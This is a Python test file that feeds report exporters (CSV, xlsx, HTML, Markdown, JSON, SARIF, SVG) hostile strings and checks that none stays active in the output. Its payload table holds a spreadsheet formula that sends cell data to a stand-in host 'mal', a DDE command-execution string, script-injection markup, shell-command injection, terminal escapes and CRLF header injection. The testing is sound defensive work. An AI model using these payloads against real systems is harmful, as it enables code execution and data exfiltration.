"""What a system says to drive a spreadsheet, a page, a terminal or a shell reaches every report as
text, and every report is still what its standard says.
"""

import csv
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree as ET

import jsonschema_rs
import pytest
from report_formats_sample import SCHEMED, drawn, parsed, schema_of
from report_sample import HEADER, ended, exchange, finding, write

from conformance.core.finding import Verdict
from conformance.report.formats import FORMATS
from conformance.report.ledger import Ledger
from conformance.report.record import RecordedOutcome

_PAYLOADS = {
    "fórmula": '=HYPERLINK("http://mal/?"&A1,"ver")',
    "suma": "@SUM(1+1)*cmd|' /C calc'!A0",
    "guion": "</script></style></title>]]><script>alert(1)</script><img src=x onerror=alert(1)>",
    "enlace": "[ver](javascript:alert(1)) ![x](http://mal/x.png)\n# Título\n| a | b |\n```",
    "terminal": "\x1b[2J\x1b]0;dueño\x07\x9b31m\x08\x7f",
    "direcciones": "\u202egnp.exe\u2066\ufeff",
    "shell": "'; touch herido; `touch herido` $(touch herido) \"; touch herido; & calc & %PATH%",
    "líneas": "uno\r\nSet-Cookie: a=b\r\n\r\n::error file=x::hecho\n::set-output name=a::b",
    "nulo": "antes\x00después",
    "largo": "palabra-sin-fin" * 20_000,
    "sin par": "\ud800 y \udfff",
}
_FILES = sorted({*FORMATS} - {"allure", "pdf"})


def _spoiled(folder: Path, text: str) -> Ledger:
    """Return a run in which all that comes from others is that text."""
    said = replace(finding(exchanges=("x1",)), expected=text, actual=text, place=text, title=text)
    answered = exchange("x1", status=500, body=text)
    asked = replace(answered.evidence, request_body=text, response_headers=(("x-a", text),))
    header = replace(
        HEADER,
        target=replace(HEADER.target, name=text),
        users={"erp": text},
        entities={"erp": text},
        planned=tuple(replace(one, title=text) for one in HEADER.planned),
        contract=tuple(replace(one, title=text, version=text) for one in HEADER.contract),
    )
    return write(
        folder,
        header=header,
        outcomes=(
            *ended(b=Verdict.FAILED)[:2],
            RecordedOutcome("c", Verdict.BLOCKED, reason=text),
        ),
        findings=[("b", said)],
        exchanges=[replace(answered, shown=asked)],
    )


def _drives(text: str) -> list[str]:
    """Return the signs of a text that drive what shows it."""
    return sorted(
        {
            f"U+{ord(sign):04X}"
            for sign in text
            if sign not in "\n\t" and unicodedata.category(sign) in ("Cc", "Cf", "Cs")
        }
    )


def _members(path: Path) -> Iterator[tuple[str, str]]:
    """Yield what a file holds, each part of a workbook by itself; a sheet that is opened with a
    double click begins with a mark and ends its lines as Windows does.
    """
    if path.suffix == ".xlsx":
        with zipfile.ZipFile(path) as book:
            yield from ((name, book.read(name).decode("utf-8")) for name in book.namelist())
        return
    text = path.read_bytes().decode("utf-8")
    yield path.name, text[1:].replace("\r\n", "\n") if path.suffix == ".csv" else text


@pytest.mark.parametrize("name", _FILES)
@pytest.mark.parametrize("payload", _PAYLOADS)
def test_no_report_holds_what_drives_whatever_shows_it(
    name: str, payload: str, tmp_path: Path
) -> None:
    """No file has a sign that moves a terminal or turns a line around, nor half a character; each
    is read by what reads its kind, and its schema takes it.
    """
    for path in drawn(name, _spoiled(tmp_path, _PAYLOADS[payload])):
        for member, text in _members(path):
            assert (member, []) == (member, _drives(text))
            _READ[Path(member).suffix or ".rels"](text)
        if name in SCHEMED and path.suffix != ".svg":
            validator = jsonschema_rs.validator_for(schema_of(name), validate_formats=True)
            assert [] == [one.message for one in validator.iter_errors(parsed(path))]


class _Page(HTMLParser):
    """The elements of a page, and those of their attributes that run or fetch something."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.active: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name.startswith("on") or (name in ("href", "src") and (value or "")[:1] != "#"):
                self.active.append(f"{name}={value}")


def _page(text: str) -> None:
    """One script, ours, and nothing that runs or fetches besides."""
    page = _Page(text)
    assert (1, 0, []) == (page.tags.count("script"), page.tags.count("img"), page.active)


def _xml(text: str) -> None:
    """Well formed, and in a workbook no cell is a formula."""
    tags = {one.tag.rpartition("}")[2] for one in ET.fromstring(text.encode()).iter()}
    assert not tags & {"f", "script", "image", "hyperlink"}


def _sheet(text: str) -> None:
    """No cell begins as a formula does."""
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert [] == [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]


def _markdown(text: str) -> None:
    """No line is an order to a pipeline, nor a title, a link or a tag of others."""
    plain = re.sub(r"\\.", "", text)
    assert not re.search(r"^(::|##\[|# Título)|\]\(javascript:|<script|<img", plain, re.MULTILINE)


_READ: dict[str, Callable[[str], object]] = {
    ".json": json.loads,
    ".sarif": json.loads,
    ".har": json.loads,
    ".xml": _xml,
    ".rels": _xml,
    ".svg": _xml,
    ".html": _page,
    ".csv": _sheet,
    ".md": _markdown,
}
